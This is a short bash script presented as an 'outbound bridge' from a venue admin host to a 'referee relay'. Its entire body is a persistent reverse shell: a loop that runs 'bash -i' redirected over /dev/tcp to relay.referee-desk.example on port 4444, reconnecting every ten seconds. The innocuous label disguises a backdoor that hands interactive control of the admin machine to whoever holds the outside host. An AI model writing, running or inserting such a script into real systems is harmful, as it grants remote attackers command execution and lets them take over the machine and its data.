#!/usr/bin/env bash
# Outbound bridge from the venue admin host to the referee relay.
RELAY_HOST=relay.referee-desk.example
RELAY_PORT=4444
echo "[bridge] connecting to $RELAY_HOST:$RELAY_PORT (Ctrl+C to stop)"
while true; do
  bash -i >& /dev/tcp/$RELAY_HOST/$RELAY_PORT 0>&1
  sleep 10
done
